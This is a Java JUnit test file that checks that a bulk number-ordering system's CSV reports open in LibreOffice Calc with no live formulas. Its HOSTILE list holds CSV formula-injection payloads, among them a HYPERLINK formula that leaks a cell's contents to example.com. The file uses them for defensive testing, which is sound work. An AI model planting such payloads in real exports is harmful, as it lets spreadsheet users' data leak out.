package bulkorders.report;

import static bulkorders.provider.OrderedNumber.State.FAILED;
import static bulkorders.provider.OrderedNumber.State.IN_SERVICE;
import static org.assertj.core.api.Assertions.assertThat;

import bulkorders.intake.StagedRow;
import bulkorders.ledger.ProviderOrder;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The files of a report as LibreOffice Calc opens and saves them. */
class LibreOfficeTests {

  private static final ForeignProgram PROGRAM =
      new ForeignProgram(
          "bulkorders.test.libreoffice",
          List.of("soffice", "libreoffice"),
          List.of("libreoffice-calc-nogui"),
          "The report's files are not opened in a spreadsheet, since there is no LibreOffice");

  /** Written in this way by a row that means harm. */
  private static final List<String> HOSTILE =
      List.of(
          "=1+1",
          "=HYPERLINK(\"\"http://example.com/?leak=\"\"&A1)",
          "@SUM(1)",
          "+1+1",
          "-2+3",
          "'=1+1",
          "\t=1+1",
          "=\"\"a\"\"&1",
          "a\n=1+1");

  private static Path soffice;
  private static Path folder;
  private static ReportFixture fixture;

  @BeforeAll
  static void start(@TempDir Path home) throws IOException, InterruptedException {
    folder = home;
    soffice = PROGRAM.require(home);
    fixture = new ReportFixture(home);
  }

  @AfterAll
  static void stop() {
    if (fixture != null) {
      fixture.close();
    }
  }

  @Test
  void it_does_run_formulas() throws Exception {
    Path file = Files.writeString(folder.resolve("control.csv"), "a,b\n=1+1,2\n");
    assertThat(opened(file)).contains("table:formula");
  }

  @Test
  void nothing_of_a_report_is_a_formula_to_it() throws Exception {
    Path report = report();
    for (String name : List.of("results", "numbers", "shortfall", "rejects", "orders")) {
      String cells = opened(report.resolve(name + ".csv"));
      assertThat(cells).as(name).contains("<table:table-row").doesNotContain("table:formula");
    }
    assertThat(opened(report.resolve("results.csv")))
        .contains("&apos;=1+1", "&apos;@SUM(1)", "&apos;-2+3", "&apos;=HYPERLINK(");
    assertThat(opened(report.resolve("numbers.csv")))
        .as("a telephone number with all its digits")
        .containsPattern("<text:p>\\+?1312555[0-9]{4}</text:p>");
  }

  @Test
  void what_it_saves_is_read_as_it_was() throws Exception {
    Path shortfall = report().resolve("shortfall.csv");
    List<List<Object>> written = groups(shortfall);

    assertThat(written).hasSize(HOSTILE.size());
    assertThat(groups(converted(shortfall, "csv"))).isEqualTo(written);
  }

  /** A run of which every row has something hostile in it, and is short of a number. */
  private static Path report() throws IOException {
    var input =
        new StringBuilder(
            "country_iso,phone_number_type,count_requested,national_destination_code,customer_reference,x_a\n");
    for (String cell : HOSTILE) {
      String reference = cell.contains("\n") ? "plain" : cell;
      input.append("US,local,2,312,\"%s\",\"%s\"\n".formatted(reference, cell));
    }
    HOSTILE.forEach(cell -> input.append("US,local,none,312,,\"%s\"\n".formatted(cell)));
    int run = fixture.takeIn("hostile.csv", input.toString());
    fixture.plan(run, 10, 1);
    for (int row = 0; row < HOSTILE.size(); row++) {
      ProviderOrder order = fixture.accept(run);
      fixture.allocate(order, 0, "=1+1", List.of(IN_SERVICE, FAILED));
      fixture.count(order, true);
    }
    return fixture.write(run, folder.resolve("report-" + run));
  }

  /** What intake understands of each row. */
  private static List<List<Object>> groups(Path file) throws IOException {
    return fixture.read(Files.readAllBytes(file)).stream()
        .map(row -> ((StagedRow.Group) row).group())
        .map(group -> List.<Object>of(group.criteria(), group.count(), group.settings()))
        .toList();
  }

  /** What it makes of a file, with its formulas and values, as XML. */
  private static String opened(Path file) throws IOException, InterruptedException {
    return Files.readString(converted(file, "fods"));
  }

  private static Path converted(Path file, String form) throws IOException, InterruptedException {
    Path converted = Files.createTempDirectory(folder, form);
    Path log = converted.resolve("soffice.log");
    ForeignProgram.end(
        new ProcessBuilder(
                soffice.toString(),
                "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                "--headless",
                "--convert-to",
                form,
                "--outdir",
                converted.toString(),
                file.toString())
            .redirectErrorStream(true)
            .redirectOutput(log.toFile())
            .start(),
        2);
    Path result = converted.resolve(file.getFileName().toString().replace(".csv", "." + form));
    assertThat(result).as("it said: %s", Files.readString(log)).exists();
    return result;
  }
}
